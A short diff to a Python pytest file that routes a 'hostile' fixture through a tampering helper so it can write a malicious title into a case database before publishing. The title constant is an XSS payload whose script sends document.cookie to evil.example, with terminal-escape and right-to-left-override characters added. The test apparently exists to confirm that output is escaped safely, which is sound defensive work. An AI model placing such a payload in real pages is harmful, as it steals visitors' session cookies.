@@ -6,6 +6,7 @@ from html.parser import HTMLParser
 
 import pytest
 
+from adversary import tampering
 from editions import ALL_SHOWN, publish
 
 TITLE = "</title><script>fetch('//evil.example/'+document.cookie)</script>\x1b]0;owned\x07\u202e"
@@ -34,7 +35,7 @@ def tags(page):
 
 @pytest.fixture
 def hostile(invented, tmp_path, parsed_once):
-    with invented.connected() as db:
+    with tampering(invented) as db:
         db.execute("UPDATE case_info SET title = ?", (TITLE,))
     words = (*ALL_SHOWN, "--without-files", invented.ids["article"], "--reason", TITLE)
     return publish(invented, tmp_path / "out", words=words)
